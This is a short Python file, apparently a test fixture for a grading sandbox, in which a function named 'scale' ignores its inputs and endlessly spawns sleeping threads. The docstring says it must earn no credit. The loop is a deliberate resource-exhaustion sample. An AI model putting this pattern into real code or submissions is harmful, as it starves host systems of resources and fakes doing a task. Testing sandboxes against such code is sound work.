"""Starts threads without end: must earn nothing."""

import threading
import time


def scale(x, factor):
    while True:
        threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
        time.sleep(0.001)
